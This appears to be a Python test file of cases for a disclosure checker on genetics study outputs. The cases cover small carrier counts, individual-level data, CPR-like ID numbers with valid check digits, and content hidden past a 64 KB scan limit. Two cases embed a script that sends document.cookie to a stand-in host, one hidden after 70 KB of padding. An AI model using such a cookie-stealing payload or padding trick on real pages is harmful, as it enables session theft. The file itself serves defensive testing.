@case("notebook_figure_hidden.ipynb", Expect.BLOCK, "genotypes in a chunk of a notebook's plot", I)
def _(path, rng):

    png = _figure("png")
    hidden = png[:33] + _png_chunk(b"prVt", _hidden_calls(rng)) + png[33:]
    data = {"image/png": base64.b64encode(hidden).decode(), "text/plain": "<Figure>"}
    return _one_output("plt.bar(groups, counts)", data)


@case("notebook_markdown_table.ipynb", Expect.BLOCK, "a count of 4 typed into a Markdown cell", C)
def _(path, rng):
    import nbformat

    book = nbformat.v4.new_notebook()
    book.cells.append(nbformat.v4.new_code_cell("model = smf.logit('case ~ carrier', df).fit()"))
    book.cells.append(nbformat.v4.new_markdown_cell(
        "## Carriers\n\n| carrier | cases | controls |\n|---|---|---|\n| yes | 4 | 31 |\n"
        "| no | 120 | 845 |\n"
    ))  # fmt: skip
    return nbformat.writes(book)


@case("notebook_shown_markdown.ipynb", Expect.BLOCK, "a count of 4 displayed as Markdown", C)
def _(path, rng):
    table = "| carrier | cases | controls |\n|---|---|---|\n| yes | 4 | 31 |\n| no | 120 | 845 |\n"
    data = {"text/markdown": table, "text/plain": "<IPython.core.display.Markdown object>"}
    return _one_output("display(Markdown(table.to_markdown()))", data)


def _vcftools_hwe(rng, rare: bool) -> str:
    pos, _ = _variants(rng, 200)
    rows = [["CHR", "POS", "OBS(HOM1/HET/HOM2)", "E(HOM1/HET/HOM2)", "ChiSq_HWE", "P_HWE",
             "P_HET_DEFICIT", "P_HET_EXCESS"]]  # fmt: skip
    for i in range(200):
        q = rng.uniform(0.001, 0.03) if rare else rng.uniform(0.25, 0.5)
        g = rng.multinomial(PEOPLE, [(1 - q) ** 2, 2 * q * (1 - q), q * q])
        e = PEOPLE * np.array([(1 - q) ** 2, 2 * q * (1 - q), q * q])
        rows.append([22, pos[i], "/".join(map(str, g)), "/".join(f"{x:.2f}" for x in e),
                     round(rng.uniform(0, 3), 6), round(rng.uniform(0, 1), 6), 1,
                     round(rng.uniform(0, 1), 6)])  # fmt: skip
    return _tsv(rows)


@case("vcftools.hwe", Expect.BLOCK, "vcftools --hardy: genotype counts of 1 to 9 people", R)
def _(path, rng):
    return _vcftools_hwe(rng, rare=True)


@case("vcftools_safe.hwe", Expect.PASS, "vcftools --hardy, every genotype of 10+ people", R)
def _(path, rng):
    return _vcftools_hwe(rng, rare=False)


@case("out.ldepth.mean", Expect.REVIEW, "vcftools mean depth per site (CHROM, POS)", F)
def _(path, rng):
    pos, _ = _variants(rng, 500)
    rows = [["CHROM", "POS", "MEAN_DEPTH", "VAR_DEPTH"]]
    rows += [[22, p, round(rng.uniform(25, 40), 4), round(rng.uniform(5, 30), 4)] for p in pos]
    return _tsv(rows)


@case("pgs_by_sex_and_age.csv", Expect.BLOCK, "200 people's PGS and LDL, sex and age band", I)
def _(path, rng):
    n = 200
    frame = pd.DataFrame({
        "sex": rng.choice(["F", "M"], n), "age_group": rng.choice(["40-49", "50-59", "60-69"], n),
        "pgs": np.round(rng.normal(0, 1, n), 5), "ldl": np.round(rng.normal(3.2, 0.8, n), 3),
    })  # fmt: skip
    return frame.to_csv(index=False)


@case("carriers_of_total.md", Expect.FLAG, "'seen in 3/300 participants (1.0%)'", C)
def _(path, rng):
    return "# Results\n\nThe variant was seen in 3/300 participants (1.0%).\n"


@case("single_carrier.md", Expect.FLAG, "'a single carrier was found among the cases'", C)
def _(path, rng):
    return "# Results\n\nA single carrier was found among the cases; their LDL was 1.2 mmol/L.\n"


def _top_hits_genotypes(rng, rare: bool) -> str:
    pos, rs = _variants(rng, 10)
    a1, _ = _alleles(rng, 10)
    rows = [["SNP", "CHR", "BP", "A1", "OR", "P", "CASE_AA", "CASE_AB", "CASE_BB", "CTRL_AA",
             "CTRL_AB", "CTRL_BB"]]  # fmt: skip
    for i in range(10):
        bb = int(rng.integers(1, 9)) if rare else int(rng.integers(10, 20))
        rows.append([rs[i], 22, pos[i], a1[i], round(rng.uniform(1, 3), 3),
                     f"{rng.uniform(1e-9, 1e-6):.3g}", int(rng.integers(50, 80)),
                     int(rng.integers(30, 50)), bb, int(rng.integers(100, 130)),
                     int(rng.integers(40, 60)), int(rng.integers(10, 20))])  # fmt: skip
    return _tsv(rows)


@case("top_hits_genotypes.tsv", Expect.BLOCK, "top hits with CASE_BB of 1 to 8 people", C)
def _(path, rng):
    return _top_hits_genotypes(rng, rare=True)


@case("top_hits_genotypes_safe.tsv", Expect.PASS, "top hits, genotype counts all 10+", S)
def _(path, rng):
    return _top_hits_genotypes(rng, rare=False)


@case("vep_consequences.tsv", Expect.REVIEW, "variants counted by consequence (2 stop_lost)", F)
def _(path, rng):
    counts = {"missense_variant": 4021, "synonymous_variant": 3980, "stop_gained": 41,
              "stop_lost": 2, "start_lost": 3, "frameshift_variant": 56,
              "splice_donor_variant": 8}  # fmt: skip
    return _tsv([["consequence", "count"], *counts.items()])


@case("carriers_by_consequence.tsv", Expect.BLOCK, "2 carriers of a stop_lost variant", C)
def _(path, rng):
    return _tsv([["consequence", "carriers"], ["missense_variant", 4021], ["stop_lost", 2]])


def _staar(rng, rare: bool) -> str:
    rows = [["Gene name", "Chr", "Category", "#SNV", "cMAC", "SKAT(1,25)", "Burden(1,1)",
             "ACAT-V(1,25)", "STAAR-O"]]  # fmt: skip
    for gene, chrom, category in [("PCSK9", 1, "plof"), ("LDLR", 19, "missense"),
                                  ("APOB", 2, "plof_ds"), ("ANGPTL3", 1, "missense")]:  # fmt: skip
        snvs = int(rng.integers(3, 9))  # variants, not people
        cmac = 6 if rare and gene == "PCSK9" else int(rng.integers(40, 200))
        rows.append([gene, chrom, category, snvs, cmac,
                     *(f"{rng.uniform(1e-4, 0.5):.4g}" for _ in range(4))])  # fmt: skip
    return _tsv(rows)


@case("staar_results.tsv", Expect.BLOCK, "STAAR gene tests, a cumulative MAC of 6", C)
def _(path, rng):
    return _staar(rng, rare=True)


@case("staar_safe.tsv", Expect.REVIEW, "STAAR gene tests, few SNVs, cMAC 40+", F)
def _(path, rng):
    return _staar(rng, rare=False)


_READS = [("B1", 100, 3415008770), ("B2", 100, 2103642216), ("B3", 100, 2941238806)]


@case("read_totals.md", Expect.PASS, "10-digit read totals per batch, as a Markdown table", F)
def _(path, rng):
    rows = "".join(f"| {b} | {n} | {r} |\n" for b, n, r in _READS)
    return "| batch | n_samples | reads |\n|---|---|---|\n" + rows


@case("read_totals.html", Expect.REVIEW, "10-digit read totals per batch, as an HTML table", F)
def _(path, rng):
    return pd.DataFrame(_READS, columns=["batch", "n_samples", "reads"]).to_html(index=False)


@case("flagstat.txt", Expect.PASS, "samtools flagstat: '3415008770 + 0 in total'", F)
def _(path, rng):
    lines = [
        "3415008770 + 0 in total (QC-passed reads + QC-failed reads)",
        "0 + 0 secondary",
        "2103642216 + 0 mapped (99.12% : N/A)",
        "2941238806 + 0 paired in sequencing",
    ]
    return "\n".join(lines) + "\n"


@case("cpr_as_reads.md", Expect.BLOCK, "CPR numbers in a Markdown column named 'reads'", I)
def _(path, rng):
    # ten CPR numbers without a leading zero (real dates, valid check digits)
    numbers = []
    while len(numbers) < 10:
        day, month, year = rng.integers(10, 29), rng.integers(1, 13), rng.integers(40, 100)
        digits = f"{day:02d}{month:02d}{year:02d}{rng.integers(0, 10000):04d}"
        weights = (4, 3, 2, 7, 6, 5, 4, 3, 2, 1)
        if sum(int(c) * w for c, w in zip(digits, weights, strict=True)) % 11 == 0:
            numbers.append(digits)
    rows = "".join(f"| B{i} | {n} |\n" for i, n in enumerate(numbers, start=1))
    return "| batch | reads |\n|---|---|\n" + rows


@case("age_extremes_transposed.csv", Expect.FLAG, "rows min_age and max_age (23, 91)", C)
def _(path, rng):
    return ("group,cases,controls\nn,120,250\nmean_age,54.1,51.2\nmin_age,23,19\n"
            "max_age,91,88\n")  # fmt: skip


@case("count_in_words_transposed.csv", Expect.BLOCK, "a row n of 'three' and 120", C)
def _(path, rng):
    return "group,A,B\nn,three,120\n"


@case("count_word_among_counts.csv", Expect.BLOCK, "'three' in a column of counts by year", C)
def _(path, rng):
    return "region,2023,2024\nnorth,120,130\nsouth,three,95\neast,95,110\n"


@case("pcs_notebook_large.ipynb", Expect.BLOCK, "300 people's PCs shown as HTML: 100 KB", I)
def _(path, rng):
    # Jupyter writes "nbformat" after the cells: past the first 64 KB, which were all the
    # checks looked at to tell a notebook from any JSON
    frame = pd.DataFrame(_scores(rng), columns=[f"PC{k}" for k in range(1, 11)])
    data = {"text/html": frame.to_html(), "text/plain": "<DataFrame 300 x 10>"}
    return _one_output("pcs", data)


@case("padded_script.html", Expect.BLOCK, "a script after 70 KB of spaces", I)
def _(path, rng):
    page = "<html><body><script>fetch('https://example.org/?' + document.cookie)</script>"
    return " " * 70_000 + page + "<p>Results</p></body></html>"


@case("padded_pcs.json", Expect.BLOCK, "300 people's PC1 after 70 KB of blank lines", I)
def _(path, rng):
    return "\n" * 70_000 + json.dumps({"PC1": _scores(rng, k=1)[:, 0].tolist()})


@case("table_named_page.html", Expect.BLOCK, "a CSV named .html, a script on its last line", I)
def _(path, rng):
    # the checks read a table; a browser opens a page and runs the script
    rows = "group,n\ncases,120\ncontrols,180\n" + "# note\n" * 10
    return rows + "<script>fetch('https://example.org/?' + document.cookie)</script>\n"


def _sas_means_by_class(carriers: int) -> str:
    rule = "                " + "-" * 87 + "\n"
    head = ("                carrier    N Obs     N            Mean         Std Dev"
            "         Minimum         Maximum\n")  # fmt: skip
    rows = [f"                      0      {300 - carriers:3d}   {300 - carriers:3d}       "
            "3.2310811       0.8012345       1.1000000       7.9000000\n",
            f"                      1      {carriers:3d}   {carriers:3d}       2.1250000       "
            "0.4112345       1.7000000       2.6000000\n"]  # fmt: skip
    return ("                                The MEANS Procedure\n\n"
            "                               Analysis Variable : ldl\n\n"
            + head + rule + rows[0] + "\n" + rows[1] + rule)  # fmt: skip


@case("sas_means_class.lst", Expect.BLOCK, "PROC MEANS by carrier, 4 carriers, blank lines", E)
def _(path, rng):
    return _sas_means_by_class(4)


@case("sas_means_class_safe.lst", Expect.REVIEW, "PROC MEANS by carrier, 40 carriers", F)
def _(path, rng):
    return _sas_means_by_class(40)


@case("dplyr_summarise_safe.txt", Expect.REVIEW, "a tibble of n and mean LDL by carrier 0/1", F)
def _(path, rng):
    return ("# A tibble: 2 × 3\n  carrier     n mean_ldl\n    <dbl> <int>    <dbl>\n"
            "1       0   260     3.23\n2       1    40     2.13\n")  # fmt: skip


@case("r_aggregate_safe.txt", Expect.PASS, "R's print of aggregate(): row names 1 and 2", F)
def _(path, rng):
    return ("> aggregate(ldl ~ carrier, data = df, FUN = function(x) c(n = length(x)))\n"
            "  carrier ldl.n ldl.mean\n1       0 260.000 3.231081\n"
            "2       1  40.000 2.125000\n")  # fmt: skip


def _regions(rng, n: int = PEOPLE) -> list[tuple[int, int]]:
    starts = np.sort(rng.choice(np.arange(16_000_000, 50_000_000), n, replace=False))
    return [(int(s), int(s + rng.integers(200, 5000))) for s in starts]


@case("peaks.bed", Expect.PASS, "300 regions as BED6 (no header): name, score 0-1000", F)
def _(path, rng):
    return "".join(f"chr22\t{s}\t{e}\tregion_{i}\t{rng.integers(0, 1000)}\t+\n"
                   for i, (s, e) in enumerate(_regions(rng)))  # fmt: skip


@case("targets.bed", Expect.PASS, "299 target regions as BED3 (no header)", F)
def _(path, rng):
    return "".join(f"22\t{s}\t{e}\n" for s, e in _regions(rng, PEOPLE - 1))


@case("estimates_by_method.csv", Expect.REVIEW, "70 simulated estimates of each of 3 methods", H)
def _(path, rng):
    frame = pd.DataFrame({
        "method": np.repeat(["ols", "ridge", "lasso"], 70),
        "estimate": np.round(rng.normal(0.1, 0.05, 210), 5),
        "bias": np.round(rng.normal(0, 0.01, 210), 5),
    })  # fmt: skip
    return frame.to_csv(index=False)


@case("training_history.csv", Expect.REVIEW, "Keras history: loss and AUC over 150 epochs", H)
def _(path, rng):
    n = 150
    frame = pd.DataFrame({
        "epoch": range(1, n + 1), "loss": np.sort(rng.uniform(0.2, 0.9, n))[::-1].round(5),
        "val_loss": rng.uniform(0.3, 0.9, n).round(5), "auc": rng.uniform(0.6, 0.8, n).round(5),
    })  # fmt: skip
    return frame.to_csv(index=False)


@case("optuna_trials.csv", Expect.REVIEW, "optuna's trials_dataframe() of 300 trials", H)
def _(path, rng):
    n = PEOPLE
    start = pd.date_range("2026-12-01", periods=n, freq="min")
    frame = pd.DataFrame({
        "number": range(n), "value": rng.uniform(0.6, 0.8, n).round(5),
        "datetime_start": start.astype(str),
        "datetime_complete": (start + pd.Timedelta(seconds=30)).astype(str),
        "params_learning_rate": rng.uniform(1e-4, 1e-1, n).round(6),
        "params_max_depth": rng.integers(2, 12, n), "state": "COMPLETE",
    })  # fmt: skip
    return frame.to_csv(index=False)


@case("mcmc_draws.csv", Expect.REVIEW, "300 posterior draws from 3 chains", H)
def _(path, rng):
    frame = pd.DataFrame({
        "chain": np.repeat([1, 2, 3], 100), "draw": np.tile(range(100), 3),
        "beta": rng.normal(0.1, 0.02, PEOPLE).round(5),
        "sigma": rng.uniform(0.9, 1.1, PEOPLE).round(5),
    })  # fmt: skip
    return frame.to_csv(index=False)


@case("epoch_times.log", Expect.PASS, "log records stamped in epoch seconds, chunk numbers", F)
def _(path, rng):
    return "".join(f"{1733560000 + 17 * k} INFO chunk {k} done in {rng.uniform(1, 9):.2f}s\n"
                   for k in range(50))  # fmt: skip


@case("epoch_times_carriers.log", Expect.FLAG, "epoch-stamped log: '3 carriers found'", C)
def _(path, rng):
    lines = [f"{1733560000 + 17 * k} INFO chunk {k} done in {rng.uniform(1, 9):.2f}s"
             for k in range(50)]  # fmt: skip
    lines[20] = "1733560340 INFO 3 carriers found in chunk 20"
    return "\n".join(lines) + "\n"


@case("sacct.txt", Expect.REVIEW, "Slurm sacct: 10-digit job IDs, 4 CPUs each", F)
def _(path, rng):
    head = "JobID           JobName  Partition    Account  AllocCPUS      State ExitCode \n"
    head += " ".join(["-" * 12, *["-" * 10] * 5, "-" * 8]) + " \n"
    rows = "".join(
        f"{int(rng.integers(1_000_000_000, 9_999_999_999)):<12} {'gwas_chr' + str(k + 1):>10} "
        f"{'normal':>10} {'proj01':>10} {4:>10} {'COMPLETED':>10} {'0:0':>8} \n"
        for k in range(20)
    )
    return head + rows


@case("old_notebook.ipynb", Expect.BLOCK, "an nbformat 3 notebook of 300 people's PCs", I)
def _(path, rng):
    cells = "".join(f"<tr><td>{i}</td><td>{x:.5f}</td><td>{y:.5f}</td></tr>"
                    for i, (x, y) in enumerate(_scores(rng, k=2)))  # fmt: skip
    output = {"output_type": "pyout", "html": ["<table>" + cells + "</table>"]}
    cell = {"cell_type": "code", "input": ["pcs"], "language": "python", "outputs": [output]}
    # metadata first and long, as a notebook's may be: 'nbformat' past the first 64 KiB
    meta = {"name": "pcs", "notes": "x" * 70_000}
    return json.dumps({"metadata": meta, "nbformat": 3, "nbformat_minor": 0,
                       "worksheets": [{"cells": [cell]}]})  # fmt: skip


CASES: list[Case] = [c for c, _ in _WRITERS.values()]
